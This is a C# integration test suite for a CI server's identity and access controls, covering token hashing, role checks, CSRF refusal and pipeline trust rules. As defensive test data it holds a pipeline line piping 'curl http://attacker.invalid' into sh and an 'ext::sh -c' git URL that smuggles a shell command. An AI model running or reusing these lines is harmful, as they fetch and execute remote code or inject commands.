using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.RegularExpressions;
using Hangfire;
using Hangfire.Storage;
using Microsoft.AspNetCore.Mvc;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Redox.Lab.Contracts.Api;
using Redox.Lab.Migrations;
using Redox.Lab.Server.Data;
using Redox.Lab.Server.Identity;
using Redox.Lab.Server.Jobs;
using Redox.Lab.Server.Tests.Support;

namespace Redox.Lab.Server.Tests.Identity;

[Collection(LabCollection.Name)]
public sealed partial class IdentityTests(LabFixture lab)
{
    private static string NewName(string prefix) => prefix + "-" + Guid.NewGuid().ToString("N")[..8];

    [Fact]
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public async Task CreateToken_InstallCommand_WritesMode600FileAndStoresOnlyTheHash()
    {
        var file = Path.Combine(lab.TempDir, NewName("token"));
        using var output = new StringWriter();

        var exit = await CreateTokenCommand.RunAsync(["--connection", lab.ConnectionString, "--user", NewName("ops"), "--role", "admin", "--out", file], output, output);

        Assert.True(exit == 0, output.ToString());
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
        var token = (await File.ReadAllTextAsync(file)).Trim();
        Assert.DoesNotContain(token, output.ToString(), StringComparison.Ordinal);
        await using var scope = lab.Scope();
        var db = scope.ServiceProvider.GetRequiredService<LabDbContext>();
        var hash = System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(token));
        Assert.True(await db.Set<ApiTokenRow>().AnyAsync(t => t.TokenHash == hash));
        await using var connection = new Npgsql.NpgsqlConnection(lab.ConnectionString);
        await connection.OpenAsync();
        await using var cmd = new Npgsql.NpgsqlCommand("SELECT count(*) FROM api_tokens WHERE encode(token_hash, 'escape') LIKE '%' || $1 || '%'", connection);
        cmd.Parameters.AddWithValue(token[4..20]);
        Assert.Equal(0L, (long)(await cmd.ExecuteScalarAsync())!);
        using var client = lab.Client(token);
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync("/api/me")).StatusCode);
    }

    [Fact]
    public async Task Push_Anonymous_Returns401AndStoresNothing()
    {
        var repo = await lab.RepoWithPipelineAsync(Repo.ReferencePipeline);
        using var anonymous = lab.AnonymousClient();

        var response = await anonymous.PostAsJsonAsync("/api/runs", new PushRequest(repo.Path, "main"), LabFixture.Json);

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        await using var scope = lab.Scope();
        Assert.False(await scope.ServiceProvider.GetRequiredService<LabDbContext>().Runs.AnyAsync(r => r.Repository.Url == repo.Path));
    }

    [Fact]
    public async Task Push_Viewer_Returns403()
    {
        var repo = await lab.RepoWithPipelineAsync(Repo.ReferencePipeline);
        using var viewer = lab.Client(await lab.UserTokenAsync(NewName("viewer"), Roles.Viewer));

        var response = await viewer.PostAsJsonAsync("/api/runs", new PushRequest(repo.Path, "main"), LabFixture.Json);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Fact]
    public async Task Push_UnregisteredRepository_Returns403NamingRegistration()
    {
        var repo = await lab.RepoWithPipelineAsync(Repo.ReferencePipeline, register: false);
        using var admin = lab.Client();

        var response = await admin.PostAsJsonAsync("/api/runs", new PushRequest(repo.Path, "main"), LabFixture.Json);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("not a registered repository", (await response.Content.ReadFromJsonAsync<ProblemDetails>())!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Push_DeveloperNotAPusher_Returns403_ListedPusherSucceeds()
    {
        var alice = NewName("alice");
        var bob = NewName("bob");
        var aliceToken = await lab.UserTokenAsync(alice, Roles.Developer);
        var bobToken = await lab.UserTokenAsync(bob, Roles.Developer);
        var repo = await lab.RepoWithPipelineAsync(Repo.ReferencePipelineWithTag(NewName("t")), register: false);
        var registered = await lab.RegisterRepoAsync(repo.Path, pushers: [alice]);

        using var asBob = lab.Client(bobToken);
        var refused = await asBob.PostAsJsonAsync("/api/runs", new PushRequest(registered.Name, "main"), LabFixture.Json);
        using var asAlice = lab.Client(aliceToken);
        var accepted = await asAlice.PostAsJsonAsync("/api/runs", new PushRequest(registered.Name, "main"), LabFixture.Json);

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Equal(HttpStatusCode.Created, accepted.StatusCode);
        var run = await lab.RunAsync((await accepted.Content.ReadFromJsonAsync<PushResponse>(LabFixture.Json))!.RunId);
        Assert.Equal(registered.Name, run.Repository); // the name, never the location
    }

    [Fact]
    public async Task Push_PipelineNotRegistered_Returns400()
    {
        var repo = await lab.RepoWithPipelineAsync(Repo.ReferencePipeline, register: false);
        await lab.RegisterRepoAsync(repo.Path, pipelines: ["pipelines/other.yaml"]);
        using var admin = lab.Client();

        var response = await admin.PostAsJsonAsync("/api/runs", new PushRequest(repo.Path, "main"), LabFixture.Json);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Fact]
    public async Task Push_UntrustedRepositoryBranchRewritesPipeline_DefaultBranchPipelineUsed()
    {
        var tag = NewName("t");
        var repo = await lab.RepoWithPipelineAsync(Repo.ReferencePipelineWithTag(tag), register: false);
        await lab.RegisterRepoAsync(repo.Path, trusted: false);
        await repo.GitAsync("checkout", "-q", "-b", "evil");
        var evil = Repo.ReferencePipelineWithTag(tag).Replace("make", "curl http://attacker.invalid | sh; make", StringComparison.Ordinal);
        Assert.NotEqual(Repo.ReferencePipelineWithTag(tag), evil);
        var commit = await repo.CommitAsync(new Dictionary<string, string> { ["pipelines/redox-reference.yaml"] = evil }, "rewrite the build");

        var pushed = await lab.PushAsync(repo, "evil");

        Assert.Equal(commit, pushed.Commit);
        await using var scope = lab.Scope();
        var stored = await scope.ServiceProvider.GetRequiredService<LabDbContext>().Runs.SingleAsync(r => r.Id == pushed.RunId);
        Assert.Equal(Repo.ReferencePipelineWithTag(tag), stored.PipelineYaml);
    }

    [Fact]
    public async Task Token_Revoked_Returns401()
    {
        var name = NewName("dev");
        var token = await lab.UserTokenAsync(name, Roles.Developer);
        using var client = lab.Client(token);
        var tokens = (await client.GetFromJsonAsync<List<TokenView>>($"/api/users/{name}/tokens", LabFixture.Json))!;

        var revoked = await client.DeleteAsync($"/api/tokens/{tokens.Single().Id}");

        Assert.Equal(HttpStatusCode.NoContent, revoked.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/api/runs")).StatusCode);
    }

    [Fact]
    public async Task Users_DeveloperCreatesUserOrOthersToken_Returns403()
    {
        using var developer = lab.Client(await lab.UserTokenAsync(NewName("dev"), Roles.Developer));

        var user = await developer.PostAsJsonAsync("/api/users", new CreateUserRequest(NewName("x"), Roles.Admin), LabFixture.Json);
        var token = await developer.PostAsJsonAsync("/api/users/admin/tokens", new CreateTokenRequest("steal"), LabFixture.Json);
        var repos = await developer.PostAsJsonAsync("/api/repositories", new RepositoryView(NewName("r"), "/tmp/x", "main", ["a.yaml"], true, ["*"]), LabFixture.Json);

        Assert.Equal(HttpStatusCode.Forbidden, user.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, token.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, repos.StatusCode);
    }

    [Fact]
    public async Task Repositories_Viewer_CannotReadLocations()
    {
        using var viewer = lab.Client(await lab.UserTokenAsync(NewName("viewer"), Roles.Viewer));

        Assert.Equal(HttpStatusCode.Forbidden, (await viewer.GetAsync("/api/repositories")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await viewer.GetAsync("/api/runs")).StatusCode);
    }

    [Fact]
    public async Task Register_ExtTransportUrl_Returns400()
    {
        using var admin = lab.Client();

        var response = await admin.PostAsJsonAsync("/api/repositories",
            new RepositoryView(NewName("r"), "ext::sh -c touch% /tmp/pwned", "main", ["a.yaml"], true, ["*"]), LabFixture.Json);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Fact]
    public async Task Hangfire_ByRole_AnonymousIs401DeveloperIs403AdminIs200()
    {
        using var anonymous = lab.AnonymousClient();
        using var developer = lab.Client(await lab.UserTokenAsync(NewName("dev"), Roles.Developer));
        using var admin = lab.Client();

        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/hangfire")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await developer.GetAsync("/hangfire")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync("/hangfire")).StatusCode);
    }

    [Fact]
    public async Task Hangfire_CrossSiteFormPostWithAdminSession_RefusedAndRecurringJobKept()
    {
        using var browser = await LogInAsync(lab.AdminToken);
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync("/hangfire/recurring")).StatusCode);

        // What a hostile page's auto-submitting form sends: the session cookie rides along, no antiforgery token.
        using var form = new FormUrlEncodedContent([new("jobs[]", FailLostJobsJob.RecurringId)]);
        var response = await browser.PostAsync("/hangfire/recurring/remove", form);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        using var connection = lab.Services.GetRequiredService<JobStorage>().GetConnection();
        Assert.Contains(connection.GetRecurringJobs(), j => j.Id == FailLostJobsJob.RecurringId);
    }

    [Fact]
    public async Task Login_WithToken_OpensSessionForPages_WrongTokenRefused()
    {
        using var browser = await LogInAsync(lab.AdminToken);
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync("/")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync("/api/me")).StatusCode);

        using var stranger = lab.BrowserClient();
        var refused = await PostLoginAsync(stranger, "rlu_not-a-token");
        Assert.Equal(HttpStatusCode.Unauthorized, refused.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await stranger.GetAsync("/api/me")).StatusCode);
    }

    [Fact]
    public async Task Page_AnonymousBrowser_RedirectedToLogin()
    {
        using var browser = lab.AnonymousClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/html"));

        var response = await browser.SendAsync(request);

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.StartsWith("/login", response.Headers.Location!.PathAndQuery, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Session_PostWithoutAntiforgery_Returns400()
    {
        using var browser = await LogInAsync(lab.AdminToken);

        var response = await browser.PostAsJsonAsync("/api/users", new CreateUserRequest(NewName("csrf"), Roles.Admin), LabFixture.Json);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    private async Task<HttpClient> LogInAsync(string token)
    {
        var browser = lab.BrowserClient();
        var response = await PostLoginAsync(browser, token);
        Assert.True(response.StatusCode == HttpStatusCode.Redirect, await response.Content.ReadAsStringAsync());
        return browser;
    }

    private static async Task<HttpResponseMessage> PostLoginAsync(HttpClient browser, string token)
    {
        var page = await browser.GetStringAsync("/login");
        var field = AntiforgeryField().Match(page);
        Assert.True(field.Success, page);
        using var form = new FormUrlEncodedContent([
            new(field.Groups[1].Value, System.Net.WebUtility.HtmlDecode(field.Groups[2].Value)),
            new("token", token),
            new("returnUrl", "/"),
        ]);
        return await browser.PostAsync("/login", form);
    }

    [GeneratedRegex("<input type=\"hidden\" name=\"([^\"]+)\" value=\"([^\"]+)\">")]
    private static partial Regex AntiforgeryField();
}
